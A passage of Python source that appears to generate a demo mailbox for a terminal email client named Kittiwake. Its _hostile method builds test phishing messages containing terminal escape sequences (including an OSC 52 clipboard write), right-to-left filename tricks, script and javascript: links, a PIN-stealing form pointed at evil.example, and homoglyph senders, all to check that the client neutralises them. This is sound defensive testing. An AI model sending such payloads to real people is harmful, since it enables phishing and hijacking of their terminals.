                    "hostile messages that must show as plain text",
                ),
                ("Sent", "Your replies; mail you send in the demo lands here"),
                ("Lists/python-dev", "A busy mailing list"),
                ("Projects", "A folder with subfolders"),
                ("Junk, Trash, Drafts, Archive", "What you would expect"),
            )
        )
        html = (
            "<html><body><h1>Welcome to Kittiwake 🐦</h1>"
            "<p>This account lives entirely on your machine: an IMAP and an SMTP server on "
            "loopback, started just for this session. Nothing you do here leaves it.</p>"
            f'<table border="1"><tr><th>Folder</th><th>What is in it</th></tr>{rows}</table>'
            "<ul><li>New mail arrives every little while.</li>"
            f"<li>Send a message to <b>{escape(self.user.email)}</b> and it arrives here.</li>"
            "<li>Everything is forgotten when you quit.</li></ul>"
            '<p>Read more at <a href="https://kittiwake.example/docs">the documentation</a>.'
            "</p></body></html>\n"
        )
        plain = (
            "Welcome to Kittiwake!\n\nThis account lives entirely on your machine: an IMAP and "
            "an SMTP server on\nloopback, started just for this session. Nothing you do here "
            "leaves it.\n\n* New mail arrives every little while.\n"
            f"* Send a message to {self.user.email} and it arrives here.\n"
            "* Everything is forgotten when you quit.\n"
        )
        msgid = self._next_id("demo.example", at[0])
        top = self._top(welcome, [self._me], WELCOME_SUBJECT, at[0], msgid)
        part = mime.multipart(
            "alternative", [mime.text(plain), mime.text(html, "html")], self._boundary()
        )
        out.append(_Out(INBOX, at[0], {FLAGGED}, mime.serialize(top, part)))
        self._newsletter(out, when=at[1], series=_SERIES[0])
        raw, _ = self._plain(
            _NOTIFIERS["utility"],
            [self._me],
            INVOICE_SUBJECT,
            at[2],
            "Sehr geehrte Kundin, sehr geehrter Kunde,\n\nim Anhang finden Sie Ihre Rechnung "
            "für Oktober.\n\nMit freundlichen Grüßen\nIhre Stadtwerke Weserblick\n",
            attachments=[
                mime.binary(
                    _pdf(["Stadtwerke Weserblick", "Rechnung Oktober", "Betrag: 84,20 EUR"]),
                    "application/pdf",
                    "Rechnung_Oktober.pdf",
                )
            ],
        )
        out.append(_Out(INBOX, at[2], set(), raw))
        pat = pools.PEOPLE[28]
        raw, _ = self._plain(
            pat,
            [self._me],
            PHOTOS_SUBJECT,
            at[3],
            "Hi Robin,\n\nthe pumpkins are huge this year! Two pictures attached.\n\nPat\n",
            attachments=[
                mime.binary(self._png_for((230, 120, 20)), "image/png", "pumpkins.png"),
                mime.binary(self._png_for((60, 150, 60)), "image/png", "beans 🌱.png"),
            ],
        )
        out.append(_Out(INBOX, at[3], set(), raw))
        subject, body, ics = self._invite_parts(at[4], "Project kick-off")
        subject = INVITE_SUBJECT
        msgid = self._next_id("demo.example", at[4])
        top = self._top(_NOTIFIERS["calendar"], [self._me], subject, at[4], msgid)
        alt = mime.multipart(
            "alternative",
            [mime.text(body), mime.text(ics, "calendar", params={"method": "REQUEST"})],
            self._boundary(1),
        )
        attachment = mime.text(
            ics, "calendar", params={"method": "REQUEST"}, filename="invite.ics", inline=False
        )
        part = mime.multipart("mixed", [alt, attachment], self._boundary(0))
        out.append(_Out(INBOX, at[4], {SEEN}, mime.serialize(top, part)))
        self._forward(out, when=at[5], subject=FORWARD_SUBJECT.removeprefix("Fwd: "))
        self._newsletter(out, when=at[6], series=_SERIES[1])
        self._hostile(out)

    def _hostile(self, out: list[_Out]) -> None:
        """Messages a terminal client must neutralise (they are plausible attacks)."""
        now = self.now
        evil = Person("Mallory", "mallory@evil.example", "en", 0)
        when = [now - timedelta(days=2, hours=h) for h in range(len(HOSTILE_SUBJECTS))]
        plain = "If you can read this line normally, escapes were neutralised.\n"
        s = HOSTILE_SUBJECTS
        # 0: ANSI colours and blink in the subject; the sender's name carries an OSC 8 link.
        osc_name = Person(
            "\x1b]8;;https://evil.example\x07Your Bank\x1b]8;;\x07", "bank@evil.example", "en", 0
        )
        raw, _ = self._plain(osc_name, [self._me], s[0], when[0], plain)
        out.append(_Out(INBOX, when[0], set(), raw))
        # 1: Rich/Textual markup in subject and name.
        rich = Person("[blink]Postmaster[/blink]", "postmaster@evil.example", "en", 0)
        raw, _ = self._plain(
            rich,
            [self._me],
            s[1],
            when[1],
            "Markup such as [bold]this[/bold] and [@click=app.quit]that[/] must stay literal.\n",
        )
        out.append(_Out(INBOX, when[1], set(), raw))
        # 2: a right-to-left override hides ".exe" as ".pdf", in the subject and file name.
        rlo = Person("Billing \u202eecivres\u202c", "billing@evil.example", "en", 0)
        raw, _ = self._plain(
            rlo,
            [self._me],
            s[2],
            when[2],
            "Your receipt is attached.\n",
            attachments=[
                mime.binary(
                    b"MZ\x90\x00 not really a program\n",
                    "application/octet-stream",
                    "receipt_\u202efdp.exe",
                )
            ],
        )
        out.append(_Out(INBOX, when[2], set(), raw))
        # 3: terminal control sequences in the body: clear screen, set title, clipboard (OSC 52).
        body = (
            "Line one.\n\x1b[2J\x1b[HThe screen should not have been cleared.\n"
            "\x1b]0;pwned title\x07The window title should not have changed.\n"
            "\x1b]52;c;ZWNobyBwd25lZA==\x07Your clipboard should be untouched.\n"
            "Back\x08\x08\x08\x08spaces and \x1b[8mhidden\x1b[0m text.\n" + plain
        )
        raw, _ = self._plain(evil, [self._me], s[3], when[3], body)
        out.append(_Out(INBOX, when[3], set(), raw))
        # 4: HTML with script, a javascript: link, a form, hidden text and a tracking pixel.
        html = (
            "<html><head><script>alert('xss')</script></head><body>"
            "<p>Dear customer, your statement is ready.</p>"
            '<p><a href="javascript:alert(1)">View statement</a> or '
            '<a href="https://bank.example.evil.example/login">https://bank.example/login</a></p>'
            '<form action="https://evil.example/steal"><input name="pin"></form>'
            '<div style="display:none">hidden text a reader should not see</div>'
            '<img src="https://evil.example/pixel.gif?u=robin" width="1" height="1">'
            "</body></html>\n"
        )
        msgid = self._next_id("evil.example", when[4])
        top = self._top(evil, [self._me], s[4], when[4], msgid)
        out.append(_Out(INBOX, when[4], set(), mime.serialize(top, mime.text(html, "html"))))
        # 5: a display name that pretends to be an address.
        spoof = Person("support@bank.example", "phish@evil.example", "en", 0)
        raw, _ = self._plain(
            spoof,
            [self._me],
            s[5],
            when[5],
            "Please confirm your details at https://bank-example.evil.example\n",
        )
        out.append(_Out(INBOX, when[5], set(), raw))
        # 6: a Cyrillic "а" and a zero-width space.
        raw, _ = self._plain(
            Person("Pаypal", "service@paypa1.example", "en", 0),
            [self._me],
            s[6],
            when[6],
            "Confirm now.\n",
        )
        out.append(_Out(INBOX, when[6], {SEEN}, raw))
        # 7: a subject far longer than any screen.
        raw, _ = self._plain(evil, [self._me], s[7], when[7], "Long subject test.\n")
        out.append(_Out(INBOX, when[7], {SEEN}, raw))

    # -- the whole mailbox --------------------------------------------------------------

    def build(self, inbox: int = 3000) -> DemoMail:
        """Every folder; INBOX gets exactly ``inbox`` messages (at least the fixed ones)."""
        out: list[_Out] = []
        self._showcase(out)
        self._drafts(out)
        kinds = (
            (self._conversation, 22),
            (lambda o: self._conversation(o, group=True), 4),
            (self._single, 24),
            (self._notification, 24),
            (self._newsletter, 14),
            (self._forward, 2),
        )
        funcs = [k for k, _ in kinds]
        weights = [w for _, w in kinds]
        count = sum(1 for o in out if o.folder == INBOX)
        while count < inbox:
            before = len(out)
            self.rng.choices(funcs, weights)[0](out)
            count += sum(1 for o in out[before:] if o.folder == INBOX)
        listed = 0
        while listed < inbox // 15:
            listed += self._list_thread(out)
        for folder, n in (
            (PROJECTS, 6),
            (PROJECTS_KITTIWAKE, inbox // 50),
            (PROJECTS_GARDEN, inbox // 100),
        ):
            for _ in range(n):
                self._project(out, folder)
        for _ in range(max(10, inbox // 60)):
            self._spam(out)
        trash: list[_Out] = []
        for _ in range(max(5, inbox // 100)):
            self._newsletter(trash, folder=TRASH)
        out += trash
        return self._finish(out, inbox)

    def _finish(self, out: list[_Out], inbox: int) -> DemoMail:
        by_folder: dict[str, list[_Out]] = {f: [] for f in FOLDERS}
        for o in out:
            by_folder[o.folder].append(o)
        for msgs in by_folder.values():
            msgs.sort(key=lambda o: o.date)
        extra = len(by_folder[INBOX]) - inbox
        if extra > 0:  # the last thread overshot: drop the oldest, keep the fixed recent ones
            del by_folder[INBOX][:extra]
        return DemoMail(
            {
                f: tuple(SeedMessage(o.raw, o.date, frozenset(o.flags)) for o in msgs)
                for f, msgs in by_folder.items()
            }
        )

    # -- the live feed ------------------------------------------------------------------

    def live_message(self, when: datetime | None = None) -> SeedMessage:
        """One new INBOX message: a reply to a thread the user answered last, or fresh mail."""
        when = (when or datetime.now(UTC)).astimezone(UTC).replace(microsecond=0)
        rng = self.rng
        waiting = [t for t in self._threads if t.last_from_user and t.folder == INBOX]
        out: list[_Out] = []
        if waiting and rng.random() < 0.5:
            thread = waiting[-1 - rng.randrange(min(len(waiting), 20))]
            other = thread.other
            text = self._letter(thread.lang, self.user.first, _first(other), low=1, high=3)
            text += "\n" + self._quote(thread.last_body, self._me, thread.last_date)
            subject = self._thread_reply_subject(thread.subject, thread.lang)
            raw, msgid = self._plain(
                other,
                [self._me],
                subject,
                when,
                text,
                cc=list(thread.cc) or None,
                refs=list(thread.refs),
            )
            thread.refs.append(msgid)
            thread.last_body, thread.last_date, thread.last_from_user = text, when, False
            return SeedMessage(raw, when, frozenset())
        pick = rng.random()
        if pick < 0.5:
            self._single(out, when)
        elif pick < 0.8:
            self._notification(out, when)
        else:
            self._newsletter(out, when=when)
        return SeedMessage(out[0].raw, when, frozenset())

    def auto_reply(self, original: EmailMessage, recipient: str, when: datetime) -> SeedMessage:
        """The answer of ``recipient`` to a message the demo user sent them (for INBOX)."""
        addr = recipient.strip().lower()
        person = next((p for p in (*pools.PEOPLE, *pools.LIST_MEMBERS) if p.email == addr), None)
        if person is None:
            local = addr.split("@", 1)[0].replace(".", " ").replace("_", " ")
            person = Person(local.title() or addr, addr, "en", 0)
        subject = str(original.get("Subject", "")).strip()
        reply_subject = self._thread_reply_subject(subject, person.lang) if subject else "Re:"
        msgid = str(original.get("Message-ID", "")).strip()
        refs = str(original.get("References", "")).split()
        if msgid:
            refs.append(msgid)
        try:
            part = original.get_body(("plain",))
            quoted = part.get_content() if part is not None else ""
        except (KeyError, LookupError, ValueError):
            quoted = ""
        lang = person.lang if person.lang in pools.SENTENCES else "en"
        text = self._letter(lang, self.user.first, _first(person), low=1, high=2)
        if isinstance(quoted, str) and quoted.strip():
            text += "\n" + self._quote(quoted, self._me, when)
        raw, _ = self._plain(person, [self._me], reply_subject, when, text, refs=refs or None)
        return SeedMessage(raw, when.astimezone(UTC).replace(microsecond=0), frozenset())


def _ascii(text: str) -> str:
    return text.encode("ascii", "ignore").decode().strip()


def _wrap(text: str, width: int = 72) -> str:
    """Greedy word wrap that leaves CJK text (no spaces) alone."""
    words = text.split(" ")
    lines: list[str] = []
    line = ""
    for word in words:
        if line and len(line) + 1 + len(word) > width:
            lines.append(line)
            line = word
        else:
            line = f"{line} {word}" if line else word
    if line:
        lines.append(line)
    return "\n".join(lines)


__all__ = [
    "DEMO_USER",
    "FOLDERS",
    "DemoMail",
    "DemoUser",
    "MailGenerator",
    "SeedMessage",
]
